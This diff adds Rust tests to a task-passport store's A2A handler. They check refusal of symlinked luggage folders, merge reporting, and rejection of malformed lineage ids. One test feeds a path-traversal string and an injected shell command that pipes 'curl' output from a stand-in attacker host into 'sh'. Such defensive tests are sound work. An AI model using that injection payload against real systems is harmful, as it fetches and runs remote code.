@@ -536,3 +536,130 @@ fn to_a2a_and_from_a2a_round_trip_the_pack_and_seal_its_machine_facts() {
     );
     assert!(!dir.join("x.taskpack").exists());
 }
+
+/// The home passport `TP-HOME-0001` (ask a1 open) and a receipt answering it, as a flat pack
+/// carrying `answers.md`.
+fn home_and_receipt(store: &Path, chain_home: &str) -> Vec<u8> {
+    PassportStore::open(store)
+        .unwrap()
+        .create(Json::parse(
+            r#"{"id":"TP-HOME-0001","title":"home","goal":"g","asks":[{"id":"a1","what":"which quarter?","accept":"a date range","status":"open","answer":null}]}"#,
+        ).unwrap())
+        .unwrap();
+    let receipt = Json::parse(&format!(
+        r#"{{"spec":"task-passport-bag/0.1","kind":"receipt","packed_at":"2026-08-16T05:00:00Z",
+            "origin":{{"actor":"peer","machine":"box-b"}},
+            "lineage":{{"root_id":"TP-HOME-0001","from_version":1,"chain":[{},"TP-PEER-0009@2"]}},
+            "passport":{{"goal":"g","facts":[]}},
+            "asks":[{{"id":"a1","what":"which quarter?","accept":"a date range","status":"answered","answer":"Q3"}}]}}"#,
+        serde_json::to_string(chain_home).unwrap()
+    ))
+    .unwrap();
+    let answers = [LuggageFile {
+        name: "answers.md".to_owned(),
+        bytes: b"# answers\n".to_vec(),
+    }];
+    send(&flat_bytes(&receipt, &answers), "r.taskpack.json")
+}
+
+/// A receipt whose luggage would be moved into a `<ID>.files` that is a symbolic link is
+/// refused naming the link, before the passport is written; nothing lands where it points.
+#[cfg(unix)]
+#[test]
+fn a_receipt_through_the_door_moves_no_luggage_through_a_linked_files_folder() {
+    let dir = common::scratch("a2a-linked-files");
+    let store = dir.join("store");
+    let body = home_and_receipt(&store, "TP-HOME-0001@1");
+    let outside = dir.join("outside");
+    fs::create_dir(&outside).unwrap();
+    let link = store.join("TP-HOME-0001.files");
+    std::os::unix::fs::symlink(&outside, &link).unwrap();
+    let before = fs::read(store.join("TP-HOME-0001.json")).unwrap();
+    let (code, message, _) = error(&answer(&door(&store), &body, true));
+    assert_eq!(
+        (code, message),
+        (
+            -32603,
+            format!(
+                "cannot move luggage to `{}`: a symbolic link, which is never written through: \
+                 nothing was merged",
+                link.display()
+            )
+        )
+    );
+    assert_eq!(
+        fs::read_dir(&outside).unwrap().count(),
+        0,
+        "nothing outside"
+    );
+    assert_eq!(fs::read(store.join("TP-HOME-0001.json")).unwrap(), before);
+}
+
+/// Once a merge is written, the answer says so: what fails after (here the home passport's
+/// own luggage, gone from the store, cannot be read into the Task) does not turn into an error
+/// the client would take for "nothing merged".
+#[test]
+fn a_merge_written_is_answered_as_merged_whatever_fails_after() {
+    let dir = common::scratch("a2a-merged-then");
+    let store = dir.join("store");
+    let door = door(&store);
+    let landed = answer(
+        &door,
+        &send(&flat_bytes(&handoff(), &luggage()), "h.taskpack.json"),
+        true,
+    );
+    let id = landed["result"]["task"]["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]
+        ["landed"]["passport_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    fs::remove_file(store.join(format!("{id}.files/brief.txt"))).unwrap();
+    let receipt = Json::parse(&format!(
+        r#"{{"spec":"task-passport-bag/0.1","kind":"receipt","packed_at":"2026-08-16T05:00:00Z",
+            "origin":{{"actor":"peer","machine":"box-b"}},
+            "lineage":{{"root_id":"TP-ROOT-0001","from_version":1,"chain":["{id}@1","TP-PEER-0009@2"]}},
+            "passport":{{"goal":"g","facts":[{{"text":"Q3 is July to September","scope":"universal","verified":true}}]}}}}"#
+    ))
+    .unwrap();
+    let out = answer(
+        &door,
+        &send(&flat_bytes(&receipt, &[]), "r.taskpack.json"),
+        true,
+    );
+    let merged =
+        &out["result"]["task"]["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]["merged"];
+    assert_eq!(
+        (merged["written"].clone(), merged["version"].clone()),
+        (json!(true), json!(2)),
+        "{out}"
+    );
+    let stored: Value =
+        serde_json::from_slice(&fs::read(store.join(format!("{id}.json"))).unwrap()).unwrap();
+    assert_eq!(stored["version"], 2);
+}
+
+/// A receipt whose lineage names no passport id (a path, a shell command) is a bad request:
+/// -32602 with the TaskPack code, as every refused pack, never -32603.
+#[test]
+fn a_receipt_naming_no_passport_id_is_invalid_params() {
+    for target in ["../../outside", "HOME-1; curl http://evil.example/x | sh #"] {
+        let dir = common::scratch("a2a-receipt-path");
+        let store = dir.join("store");
+        let body = home_and_receipt(&store, &format!("{target}@1"));
+        let out = answer(&door(&store), &body, true);
+        let (code, message, data) = error(&out);
+        assert_eq!(
+            (code, data),
+            (-32602, json!("invalid_passport_id")),
+            "{target}: {out}"
+        );
+        assert_eq!(
+            message,
+            format!(
+                "`{}` is not a passport id: an id is 1 to 120 characters of A-Z a-z 0-9 _ -",
+                target.escape_debug()
+            )
+        );
+        assert_eq!(passports(&store), ["TP-HOME-0001.json"]);
+    }
+}
